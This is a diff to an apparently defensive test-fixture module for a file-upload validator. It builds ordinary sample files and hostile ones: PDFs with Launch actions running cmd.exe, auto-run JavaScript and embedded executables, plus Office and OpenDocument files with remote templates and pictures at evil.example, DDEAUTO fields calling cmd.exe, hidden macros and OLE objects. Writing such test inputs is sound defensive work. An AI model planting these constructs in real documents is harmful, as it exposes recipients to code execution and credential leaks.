@@ -6,12 +6,35 @@ import zipfile
 import zlib
 from dataclasses import dataclass
 
-from app.domain.uploads import TEST_VIRUS
+from app.domain.packed_files import TEST_VIRUS
 
 WORD = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
 SHEET = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
 MACRO_WORD = b"application/vnd.ms-word.document.macroEnabled.main+xml"
-PDF = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"
+W = b"http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+R = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+MANIFEST = b"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"
+
+
+def pdf(catalogue: bytes = b"", *objects: bytes, trailer: bytes = b"") -> bytes:
+    """A PDF of one empty page, with more in its catalogue and more objects (from number 4) where a test wants them."""
+    first = (
+        b"<< /Type /Catalog /Pages 2 0 R " + catalogue + b" >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
+    )
+    out, places = b"%PDF-1.7\n", []
+    for number, body in enumerate((*first, *objects), start=1):
+        places.append(len(out))
+        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
+    table = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
+    out += b"".join(b"%010d 00000 n \n" % place for place in places)
+    size = len(places) + 1
+    return out + b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, table)
+
+
+PDF = pdf()
 
 
 @dataclass(frozen=True)
@@ -31,11 +54,63 @@ def packed(entries: dict[str, bytes], level: int = zipfile.ZIP_DEFLATED) -> byte
 
 
 def types(main: bytes) -> bytes:
-    return b'<Types><Override PartName="/main.xml" ContentType="' + main + b'"/></Types>'
+    return (
+        b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+        b'<Override PartName="/main.xml" ContentType="' + main + b'"/></Types>'
+    )
 
 
 def docx(**more: bytes) -> bytes:
-    return packed({"[Content_Types].xml": types(WORD), "word/document.xml": b"<w:document/>", **more})
+    return packed(
+        {
+            "[Content_Types].xml": types(WORD),
+            "word/document.xml": b'<w:document xmlns:w="' + W + b'"/>',
+            **more,
+        }
+    )
+
+
+def related(kind: bytes, target: bytes, mode: bytes = b' TargetMode="External"') -> bytes:
+    """The list of a part's relationships, with one in it."""
+    return (
+        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1"'
+        b' Type="' + R + b"/" + kind + b'" Target="' + target + b'"' + mode + b"/></Relationships>"
+    )
+
+
+def letter(body: bytes) -> bytes:
+    """A Word file whose one paragraph holds this."""
+    whole = b'<w:document xmlns:w="' + W + b'"><w:body><w:p>' + body + b"</w:p></w:body></w:document>"
+    return docx(**{"word/document.xml": whole})
+
+
+def field(*pieces: bytes) -> bytes:
+    """A Word field whose instruction is cut into these pieces, each a run of its own."""
+    runs = b"".join(b"<w:r><w:instrText>" + piece + b"</w:instrText></w:r>" for piece in pieces)
+    return (
+        b'<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        + runs
+        + b'<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+    )
+
+
+def text_document(body: bytes) -> bytes:
+    """An OpenDocument text with this in its content."""
+    names = b" ".join(
+        b'xmlns:%s="urn:oasis:names:tc:opendocument:xmlns:%s:1.0"' % (short, long)
+        for short, long in (
+            (b"office", b"office"),
+            (b"script", b"script"),
+            (b"draw", b"drawing"),
+            (b"text", b"text"),
+        )
+    )
+    return odt(
+        **{
+            "content.xml": b"<office:document-content " + names + b' xmlns:xlink="http://www.w3.org/1999/xlink">'
+            + body + b"</office:document-content>"
+        }
+    )  # fmt: skip
 
 
 def xlsx(**more: bytes) -> bytes:
@@ -105,7 +180,43 @@ HONEST = [
     Sent("notes.txt", b"Amina likes maps.\r\n"),
     Sent("notes.txt", "Zażółć gęślą jaźń, اردو".encode()),
     Sent("notes.txt", "It’s fine".encode("cp1252")),
+    Sent("notes.txt", "It’s fine, Zażółć".encode("utf-16")),
+    Sent("notes.text", b"Amina likes maps."),
+    Sent("photo.jpe", jpeg()),
+    Sent("photo.JFIF", jpeg()),
+    Sent("photo.jpg", png()),
+    Sent("photo.png", jpeg()),
+    Sent("from the scanner.pdf", b"\x1b%-12345X@PJL ENTER LANGUAGE=PDF\r\n" + PDF),
+    Sent("from a mail.pdf", b"\r\n\r\n" + PDF),
+    Sent(
+        "link.docx",
+        docx(**{"word/_rels/document.xml.rels": related(b"hyperlink", b"https://www.nhs.uk/x?a=b")}),
+    ),
+    Sent(
+        "write to.docx",
+        docx(**{"word/_rels/document.xml.rels": related(b"hyperlink", b"mailto:a@school.example")}),
+    ),
+    Sent(
+        "template.docx",
+        docx(
+            **{
+                "word/_rels/settings.xml.rels": related(
+                    b"attachedTemplate", b"file:///C:\\Users\\ann\\Normal.dotm"
+                )
+            }
+        ),
+    ),
+    Sent("fields.docx", letter(field(b" PAGEREF _Toc1 \\h ") + field(b' HYPERLINK "https://a.example" '))),
+    Sent(
+        "picture.docx", docx(**{"word/_rels/document.xml.rels": related(b"image", b"media/image1.png", b"")})
+    ),
+    Sent("link.odt", text_document(b'<text:a xlink:href="https://a.example">a</text:a>')),
+    Sent(
+        "picture.odt",
+        text_document(b'<draw:image xlink:href="Pictures/1.png"/><draw:object xlink:href="./Object 1"/>'),
+    ),
 ]
+"""Files as people really have them."""
 
 HOSTILE = {
     "empty": Sent("report.pdf", b""),
@@ -124,7 +235,16 @@ HOSTILE = {
     "zip bomb in a zip": Sent("a.docx", docx(**{"a.zip": packed({"b": BOMB})})),
     "too many entries": Sent("a.docx", docx(**{f"word/{n}": b"" for n in range(2_100)})),
     "encrypted Word": Sent("a.docx", encrypted(docx())),
-    "encrypted letter": Sent("a.odt", odt(**{"META-INF/manifest.xml": b"<manifest:encryption-data/>"})),
+    "encrypted letter": Sent(
+        "a.odt",
+        odt(
+            **{
+                "META-INF/manifest.xml": b'<manifest xmlns:m="'
+                + MANIFEST
+                + b'"><m:encryption-data/></manifest>'
+            }
+        ),
+    ),
     "old Word named as new": Sent("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
     "macros": Sent("a.docx", docx(**{"word/vbaProject.bin": b"macro"})),
     "macros in another place": Sent("a.docx", docx(**{"x/VbaProject.bin": b"macro"})),
@@ -171,6 +291,92 @@ HOSTILE = {
     "rich text named as text": Sent("a.txt", b"{\\rtf1 hello}"),
     "GIF named as PNG": Sent("a.png", b"GIF89a\x01\x00\x01\x00"),
 }
+
+PDF_PARTS = {
+    "launch": pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
+    "launch from a page": pdf(b"", b"<< /Type /Action /S /Launch /Win << /F (cmd.exe) >> >>"),
+    "launch, spelt otherwise": pdf(b"/OpenAction << /S /L#61unch /F (cmd.exe) >>"),
+    "script": pdf(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
+    "script by name": pdf(b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (1) >>] >> >>"),
+    "page on another computer": pdf(b"/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\x.pdf) >>"),
+    "program attached": pdf(b"", b"<< /Type /Filespec /F (invoice.exe) /EF << /F 5 0 R >> >>",
+                            b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"),
+    "film": pdf(b"", b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 1 1] >>"),
+}  # fmt: skip
+"""PDFs that start something when they are opened."""
+
+ANOTHER_PLACE = b"https://evil.example/t.dotm"
+A11 = {
+    "remote template": docx(**{"word/_rels/settings.xml.rels": related(b"attachedTemplate", ANOTHER_PLACE)}),
+    "template on a share": docx(**{"word/_rels/settings.xml.rels": related(b"attachedTemplate", b"\\\\evil\\t.dotm")}),
+    "template on a share, as a file": docx(
+        **{"word/_rels/settings.xml.rels": related(b"attachedTemplate", b"file://evil/t.dotm")}
+    ),
+    "remote template, other letters": docx(
+        **{"word/_rels/settings.xml.rels": related(b"attachedTemplate", ANOTHER_PLACE, b' TargetMode=" external "')}
+    ),
+    "remote picture": docx(**{"word/_rels/document.xml.rels": related(b"image", b"https://evil.example/1.png")}),
+    "remote frame": docx(**{"word/_rels/webSettings.xml.rels": related(b"frame", b"https://evil.example/")}),
+    "link that runs": docx(**{"word/_rels/document.xml.rels": related(b"hyperlink", b"file://evil/x.lnk")}),
+    "OLE object by relationship": docx(
+        **{"word/_rels/document.xml.rels": related(b"oleObject", b"embeddings/a.bin", b"")}
+    ),
+    "OLE object by its bytes": docx(**{"word/media/image1.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600}),
+    "OLE object by content type": docx(
+        **{"[Content_Types].xml": types(WORD + b'"/><Override PartName="/a" ContentType="application/'
+           b"vnd.openxmlformats-officedocument.oleObject")}
+    ),
+    "macros under another name": docx(**{"word/data.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600}),
+    "macros by relationship": docx(**{"word/_rels/document.xml.rels": related(b"vbaProject", b"x.bin", b"")}),
+    "macros by content type": docx(
+        **{"[Content_Types].xml": types(WORD + b'"/><Default Extension="bin" ContentType="application/'
+           b"vnd.ms-office.vbaProject")}
+    ),
+    "macros in a spreadsheet in a letter": docx(**{"word/embeddings/s.xlsx": xlsx(**{"xl/vbaProject.bin": b"m"})}),
+    "remote picture in a spreadsheet in a letter": docx(
+        **{"word/embeddings/s.xlsx": xlsx(**{"xl/_rels/a.rels": related(b"image", b"https://evil.example/1")})}
+    ),
+    "DDE field": letter(field(b' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" ')),
+    "DDE field in pieces": letter(field(b" DD", b"E", b"AUTO", b" cmd x ")),
+    "DDE field after another": letter(field(b" PAGE") + field(b"DDE cmd x")),
+    "simple DDE field": letter(b'<w:fldSimple w:instr=" DDE cmd x "/>'),
+    "DDE by numbers": letter(field(b" QUOTE 68 68 69 65 85 84 79 ")),
+    "picture field from elsewhere": letter(field(b' INCLUDEPICTURE "http://evil.example/1.png" ')),
+    "DDE in a header": docx(
+        **{"word/header1.xml": b'<w:hdr xmlns:w="' + W + b'"><w:p>' + field(b"DDEAUTO a b") + b"</w:p></w:hdr>"}
+    ),
+    "DOCTYPE in a part": docx(**{"word/document.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
+    "DOCTYPE in UTF-16": docx(**{"word/document.xml": "<!DOCTYPE a><a/>".encode("utf-16")}),
+    "DOCTYPE in a part without an ending": docx(**{"word/other": b"<!DOCTYPE a><a/>"}),
+    "shortcut inside": docx(**{"word/media/a.lnk": b"x"}),
+    "shortcut inside by its bytes": docx(**{"word/media/a.png": b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60}),
+    "hta inside": docx(**{"word/media/a.hta": b"x"}),
+    "page inside": docx(**{"word/afchunk.mht": b"x"}),
+    "part that is no XML": docx(**{"word/document.xml": b"<a>"}),
+}  # fmt: skip
+A11_OPEN_DOCUMENT = {
+    "macros by folder": odt(**{"x/Basic/Standard/a.xml": b"<a/>"}),
+    "macros by backslash": odt(**{"x\\Basic\\a.xml": b"<a/>"}),
+    "event listener": text_document(b'<script:event-listener script:event-name="dom:load"/>'),
+    "DDE": text_document(b'<text:dde-connection-decl office:dde-application="cmd"/>'),
+    "OLE": text_document(b'<draw:object-ole xlink:href="./ole"/>'),
+    "remote picture": text_document(b'<draw:image xlink:href="http://evil.example/1.png"/>'),
+    "picture on a share": text_document(b'<draw:image xlink:href="//evil/1.png"/>'),
+    "section from elsewhere": text_document(b'<text:section-source xlink:href="../x.odt"/>'),
+    "plugin": text_document(b"<draw:plugin/>"),
+    "DOCTYPE": odt(**{"content.xml": b"<!DOCTYPE a><a/>"}),
+}
+A11_SPREADSHEET = {
+    "link to another workbook": xlsx(
+        **{"xl/_rels/workbook.xml.rels": related(b"externalLink", b"e.xml", b"")}
+    ),
+    "data from the web": xlsx(**{"xl/_rels/workbook.xml.rels": related(b"connections", b"c.xml", b"")}),
+    "old macro sheet": xlsx(**{"xl/_rels/workbook.xml.rels": related(b"xlMacrosheet", b"m.xml", b"")}),
+    "remote picture": xlsx(**{"xl/drawings/_rels/d.xml.rels": related(b"image", b"https://evil.example/1")}),
+}
+HOSTILE |= {f"A11 Word, {name}": Sent("a.docx", content) for name, content in A11.items()}
+HOSTILE |= {f"A11 letter, {name}": Sent("a.odt", content) for name, content in A11_OPEN_DOCUMENT.items()}
+HOSTILE |= {f"A11 spreadsheet, {name}": Sent("a.xlsx", content) for name, content in A11_SPREADSHEET.items()}
 
 HOSTILE_NAMES = {
     "../../x.pdf": "x.pdf",
